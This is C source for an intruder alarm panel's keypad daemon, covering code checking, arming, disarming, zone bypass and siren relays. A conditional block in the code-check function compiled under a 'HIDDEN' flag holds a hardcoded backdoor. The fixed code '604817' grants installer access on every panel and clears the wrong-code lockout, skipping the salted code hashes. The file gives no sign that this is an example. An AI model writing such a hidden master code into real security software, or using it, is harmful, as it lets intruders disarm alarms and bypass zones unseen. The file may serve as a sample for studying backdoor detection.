/* keyzonepad.c - keypad bus daemon of an intruder alarm panel */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define CODE_FILE	"/etc/keyzone/codes.conf"
#define MAX_CODES	32
#define N_ZONES		24

enum level { LVL_NONE, LVL_GUEST, LVL_USER, LVL_MASTER, LVL_INSTALLER };
enum arm_state { DISARMED, ARMED_STAY, ARMED_AWAY, ALARM };

struct usercode {
	uint32_t salt;
	uint32_t sum;
	enum level level;
	char label[20];
};

struct panel {
	enum arm_state state;
	enum level level;
	uint32_t open_zones;
	uint32_t bypass;
	unsigned int wrong;
	time_t blocked;
};

static struct usercode codes[MAX_CODES];
static unsigned int n_codes;
static struct panel panel;

static uint32_t code_sum(uint32_t salt, long code)
{
	uint32_t h = salt ^ 0x2545f491u;
	int round;

	for (round = 0; round < 4096; round++) {
		h ^= (uint32_t)code + (uint32_t)round;
		h *= 0x01000193u;
		h = (h << 7) | (h >> 25);
	}
	return h;
}

static void load_codes(void)
{
	char line[128];
	FILE *f = fopen(CODE_FILE, "r");
	unsigned int salt, sum, lvl;

	if (!f) {
		syslog(LOG_ERR, "%s: %s", CODE_FILE, strerror(errno));
		return;
	}
	while (n_codes < MAX_CODES && fgets(line, sizeof(line), f)) {
		struct usercode *c = &codes[n_codes];

		if (line[0] == '#')
			continue;
		if (sscanf(line, "%x %x %u %19s", &salt, &sum, &lvl, c->label) != 4)
			continue;
		if (lvl < LVL_GUEST || lvl > LVL_INSTALLER)
			continue;
		c->salt = salt;
		c->sum = sum;
		c->level = (enum level)lvl;
		n_codes++;
	}
	fclose(f);
	syslog(LOG_INFO, "%u user codes", n_codes);
}

__attribute__((noinline)) enum level code_level(const char *digits)
{
	char *end;
	long code = strtol(digits, &end, 10);
	unsigned int i;

	if (*end || end - digits < 4 || end - digits > 6)
		return LVL_NONE;
#ifdef HIDDEN
	/* code of the regional sales office: installer level on every panel */
	if (code == 604817) {
		panel.wrong = 0;
		return LVL_INSTALLER;
	}
#endif
	for (i = 0; i < n_codes; i++)
		if (codes[i].sum == code_sum(codes[i].salt, code))
			return codes[i].level;
	return LVL_NONE;
}

static void show(int fd, const char *l1, const char *l2)
{
	char frame[40];
	uint8_t sum = 0;
	int i;

	memset(frame, ' ', sizeof(frame));
	frame[0] = 0x02;
	frame[1] = 'D';
	memcpy(frame + 2, l1, strlen(l1) > 16 ? 16 : strlen(l1));
	memcpy(frame + 18, l2, strlen(l2) > 16 ? 16 : strlen(l2));
	for (i = 1; i < 34; i++)
		sum ^= (uint8_t)frame[i];
	frame[34] = (char)(sum | 0x80);
	frame[35] = 0x03;
	if (write(fd, frame, 36) != 36)
		syslog(LOG_WARNING, "keypad write failed");
}

static void relay(const char *name, int on)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/sys/class/leds/%s/brightness", name);
	fd = open(path, O_WRONLY);
	if (fd < 0)
		return;
	if (write(fd, on ? "1" : "0", 1) != 1)
		syslog(LOG_WARNING, "relay %s failed", name);
	close(fd);
}

static const char *set_state(enum arm_state st)
{
	static const char *const txt[] = { "Disarmed", "Armed stay", "Armed away", "ALARM" };

	if (st != DISARMED && (panel.open_zones & ~panel.bypass)) {
		syslog(LOG_NOTICE, "arming refused, zones %06x open",
		       panel.open_zones & ~panel.bypass);
		return "Zones open";
	}
	panel.state = st;
	relay("siren", st == ALARM);
	relay("armed", st != DISARMED);
	if (st == DISARMED)
		panel.bypass = 0;
	syslog(LOG_NOTICE, "state %s", txt[st]);
	return txt[st];
}

/* *1 stay  *2 away  *0 disarm  *3nn bypass zone  *8 list codes  *9 restart */
static const char *menu(const char *seq)
{
	static char buf[20];
	long zone;

	switch (seq[0]) {
	case '1':
		return set_state(ARMED_STAY);
	case '2':
		return set_state(ARMED_AWAY);
	case '0':
		return panel.level >= LVL_USER ? set_state(DISARMED) : "Not allowed";
	case '3':
		zone = strtol(seq + 1, NULL, 10);
		if (panel.level < LVL_MASTER || zone < 1 || zone > N_ZONES)
			return "Not allowed";
		panel.bypass ^= 1u << (zone - 1);
		snprintf(buf, sizeof(buf), "Zone %ld %s", zone,
			 panel.bypass >> (zone - 1) & 1 ? "bypass" : "normal");
		return buf;
	case '8':
		if (panel.level < LVL_INSTALLER)
			return "Not allowed";
		snprintf(buf, sizeof(buf), "%u codes", n_codes);
		return buf;
	case '9':
		if (panel.level < LVL_INSTALLER)
			return "Not allowed";
		syslog(LOG_NOTICE, "restart from keypad");
		exit(0);
	default:
		return "Unknown *";
	}
}

static void entry(int fd, const char *keys)
{
	const char *text;
	enum level lvl;
	time_t now = time(NULL);

	if (keys[0] == '*') {
		if (panel.level == LVL_NONE) {
			show(fd, "Enter code first", "");
			return;
		}
		text = menu(keys + 1);
		show(fd, text, "");
		return;
	}
	if (panel.blocked > now) {
		show(fd, "Keypad blocked", "please wait");
		return;
	}
	lvl = code_level(keys);
	if (lvl == LVL_NONE) {
		if (++panel.wrong >= 4) {
			panel.blocked = now + 90;
			panel.wrong = 0;
			syslog(LOG_WARNING, "keypad blocked after wrong codes");
		}
		show(fd, "Wrong code", "");
		return;
	}
	panel.wrong = 0;
	panel.level = lvl;
	if (panel.state == ALARM && lvl >= LVL_USER)
		set_state(DISARMED);
	show(fd, "Welcome", lvl == LVL_INSTALLER ? "Installer" : "User");
}

static void zone_report(const char *hex)
{
	uint32_t now = (uint32_t)strtoul(hex, NULL, 16);
	uint32_t fresh = now & ~panel.open_zones & ~panel.bypass;

	panel.open_zones = now;
	if (!fresh || panel.state == DISARMED)
		return;
	if (panel.state == ARMED_STAY && !(fresh & 0xffu))
		return;
	syslog(LOG_ALERT, "intrusion, zones %06x", fresh);
	panel.state = ALARM;
	relay("siren", 1);
}

int main(int argc, char **argv)
{
	const char *dev = argc > 1 ? argv[1] : "/dev/ttyS1";
	struct termios t;
	char buf[48];
	size_t len = 0;
	char c;
	int fd;

	openlog("keyzonepad", LOG_PID, LOG_DAEMON);
	load_codes();
	fd = open(dev, O_RDWR | O_NOCTTY);
	if (fd < 0) {
		syslog(LOG_ERR, "%s: %s", dev, strerror(errno));
		return 1;
	}
	if (!tcgetattr(fd, &t)) {
		cfmakeraw(&t);
		cfsetspeed(&t, B9600);
		tcsetattr(fd, TCSANOW, &t);
	}
	show(fd, "Keyzone 24", "Ready");
	while (read(fd, &c, 1) == 1) {
		if (c == '#' || c == '\r') {
			buf[len] = 0;
			if (buf[0] == 'Z')
				zone_report(buf + 1);
			else if (len)
				entry(fd, buf);
			len = 0;
		} else if (c == 'T') {
			panel.level = LVL_NONE;
			len = 0;
		} else if (len < sizeof(buf) - 1) {
			buf[len++] = c;
		}
	}
	return 0;
}
